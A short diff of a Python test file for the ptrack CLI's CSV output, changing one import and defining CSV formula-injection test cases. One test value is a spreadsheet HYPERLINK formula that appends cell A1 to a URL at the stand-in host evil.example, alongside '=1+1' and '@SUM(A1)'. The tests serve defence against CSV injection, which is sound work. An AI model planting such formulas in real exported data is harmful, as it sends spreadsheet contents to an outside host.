@@ -16,7 +16,7 @@ import pytest
 
 from ptrack.cli.output import csv_cell
 from tests.cli.test_cli_commands import Ptrack
-from tests.hostile.hostile_cli import AS_OF, load
+from tests.hostile.hostile_out import AS_OF, load
 
 FORMULAS = {  # case id -> initials, team: every formula start OWASP names, in every text column
     '=HYPERLINK("http://evil.example/?"&A1,"open")': ("=1+1", "@SUM(A1)"),
